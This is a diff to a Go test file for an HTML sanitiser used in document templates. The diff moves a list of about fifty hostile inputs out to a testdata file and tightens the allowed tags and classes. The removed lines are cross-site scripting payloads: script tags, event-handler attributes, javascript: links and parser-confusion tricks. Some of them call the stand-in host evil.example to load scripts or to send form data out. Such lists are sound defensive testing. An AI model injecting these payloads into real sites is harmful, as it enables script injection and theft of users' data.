@@ -1,8 +1,10 @@
 package paper
 
 import (
+	"os"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -10,72 +12,35 @@ import (
 	"golang.org/x/net/html"
 )
 
-// payloads are what people with bad intentions, other programs and old pages put into texts.
-func payloads() []string {
-	return []string{
-		`<script>alert(1)</script>`,
-		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
-		`<scr<script>ipt>alert(1)</script>`,
-		`<img src=x onerror=alert(1)>`,
-		`<img src="https://evil.example/pixel.gif">`,
-		`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
-		`<svg onload=alert(1)>`,
-		`<svg><style><img src=x onerror=alert(1)></style></svg>`,
-		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-		`<iframe src="javascript:alert(1)"></iframe>`,
-		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
-		`<object data="https://evil.example/x.swf"></object>`,
-		`<embed src="https://evil.example/x">`,
-		`<a href="javascript:alert(1)">clique</a>`,
-		`<a href="//evil.example" ping="//evil.example/p">x</a>`,
-		`<p style="background:url(//evil.example/x)">x</p>`,
-		`<p style="position:fixed;inset:0" onclick="alert(1)">x</p>`,
-		`<style>@import "//evil.example/x.css"; p{display:none}</style>`,
-		`<link rel=stylesheet href="//evil.example/x.css">`,
-		`<meta http-equiv="refresh" content="0;url=//evil.example">`,
-		`<base href="//evil.example/">`,
-		`<form action="//evil.example"><input name=cpf><button>Enviar</button></form>`,
-		`<input autofocus onfocus=alert(1)>`,
-		`<textarea></p><script>alert(1)</script></textarea>`,
-		`<title><img src=x onerror=alert(1)></title>`,
-		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-		`<xmp><img src=x onerror=alert(1)></xmp>`,
-		`<plaintext><img src=x onerror=alert(1)>`,
-		`<template><script>alert(1)</script></template>`,
-		`<body onload=alert(1)>`,
-		`<video><source onerror=alert(1)></video>`,
-		`<audio src="//evil.example/a.mp3" autoplay></audio>`,
-		`<details open ontoggle=alert(1)><summary>x</summary></details>`,
-		`<p hx-get="/sair" hx-trigger="load" data-hx-get="/x">x</p>`,
-		`<hx-partial hx-target="body">x</hx-partial>`,
-		`<p id="main" name="csrf" class="danger menu">x</p>`,
-		`<td background="//evil.example/x">x</td><table background="//evil.example/y"><tr><td>y</td></tr></table>`,
-		`</section></article></body></html><script>alert(1)</script>`,
-		`<!--><script>alert(1)</script-->`,
-		`<![CDATA[<script>alert(1)</script>]]>`,
-		`<?xml version="1.0"?><script>alert(1)</script>`,
-		"<img src=x\x00onerror=alert(1)>",
-		"\xff<script>alert(1)</script>\xc0",
-		`<p class="align-left" onmouseover="alert(1)" class="x">x</p>`,
-		`<span data-var="nome_cliente" onclick=alert(1) style="color:red">x</span>`,
-		`<span data-var='cpf"><script>alert(1)</script>'>x</span>`,
-		`<div data-if="cpf"><script>alert(1)</script></div>`,
-		`&lt;script&gt;alert(1)&lt;/script&gt;`,
-		`&#60;img src=x onerror=alert(1)&#62;`,
-		`$cpf $nome_cliente_pai <span data-var="cpf">$cpf</span> {{.Customer.TaxID}} <%= 1 %> ${7*7}`,
-		`[se $cpf]`,
-		"\u202egnp.exe <b>x</b>\u0007",
-		`<portal src="//evil.example"></portal><frameset><frame src="//evil.example"></frameset>`,
+// payloads are what people with bad intentions, other programs and old pages put into texts:
+// one quoted line each.
+func payloads(tb testing.TB) []string {
+	tb.Helper()
+	list, err := os.ReadFile("testdata/hostile.txt")
+	if err != nil {
+		tb.Fatal(err)
 	}
+	var all []string
+	for line := range strings.Lines(string(list)) {
+		payload, err := strconv.Unquote(strings.TrimSpace(line))
+		if err != nil {
+			tb.Fatalf("%s: %v", line, err)
+		}
+		all = append(all, payload)
+	}
+	if len(all) < 40 {
+		tb.Fatalf("%d payloads", len(all))
+	}
+	return all
 }
 
 var (
 	mayStand = []string{
-		"p", "br", "hr", "h1", "h2", "h3", "strong", "em", "u", "s", "sub", "sup", "ul", "ol", "li", "blockquote", "table",
-		"caption", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "span", "article", "header", "footer", "section",
+		"p", "br", "hr", "h1", "h2", "h3", "strong", "em", "u", "s", "sub", "sup", "ul", "ol", "li", "table",
+		"thead", "tbody", "tfoot", "tr", "th", "td", "div", "span", "article", "header", "footer", "section",
 	}
 	mayHold = map[string]*regexp.Regexp{
-		"class":    regexp.MustCompile(`^(align-(left|center|right|justify)|page-break|draft-note|list|missing|blank|clause|signatures?|paper(-head|-text|-foot)?)$`),
+		"class":    regexp.MustCompile(`^(align-(left|center|right|justify)|page-break|draft-note|missing|blank|clause|signatures?|paper(-head|-text|-foot)?)$`),
 		"data-var": regexp.MustCompile(`^[\pL\pM\pN_]+$`),
 		"data-if":  regexp.MustCompile(`^!?[\pL\pM\pN_]+$`),
 		"colspan":  regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`), "start": regexp.MustCompile(`^\d+$`),
@@ -119,11 +84,8 @@ func everything(payload string) Facts {
 
 // As a template, as an edited text and as a paste into the source.
 func TestHostileTexts(t *testing.T) {
-	if len(payloads()) < 40 {
-		t.Fatalf("%d payloads", len(payloads()))
-	}
 	f := person()
-	for _, payload := range payloads() {
+	for _, payload := range payloads(t) {
 		for _, text := range []string{payload, "<p>" + payload + "</p>", "<table><tr><td>" + payload + "</td></tr></table>", "<ul><li>" + payload} {
 			clean, err := Clean(text)
 			if err != nil {
@@ -158,7 +120,7 @@ func TestHostileValues(t *testing.T) {
 		d := draftOf(t, s.Source)
 		plainFacts := everything("Maria")
 		want := render(t, d.HTML, plainFacts)
-		for _, payload := range payloads() {
+		for _, payload := range payloads(t) {
 			f := everything(payload)
 			r := render(t, d.HTML, f)
 			harmless(t, s.Kind, r.HTML)
@@ -207,7 +169,7 @@ func TestHostileSizes(t *testing.T) {
 	for name, text := range map[string]string{
 		"one long line":     strings.Repeat("a", maxText),
 		"open formatting":   tags.String() + strings.Repeat("<p>x", 50_000),
-		"deep":              strings.Repeat("<blockquote>", 20_000),
+		"deep":              strings.Repeat("<div data-if=cpf>", 15_000),
 		"deep lists":        strings.Repeat("<ul><li>", 20_000),
 		"tables in tables":  strings.Repeat("<table><tr><td>", 10_000),
 		"foster":            strings.Repeat("<table>x", 20_000),
@@ -242,7 +204,7 @@ func TestHostileSizes(t *testing.T) {
 
 // Whatever is cleaned is harmless, and stays as it is when it is cleaned again.
 func FuzzClean(f *testing.F) {
-	for _, p := range payloads() {
+	for _, p := range payloads(f) {
 		f.Add(p)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
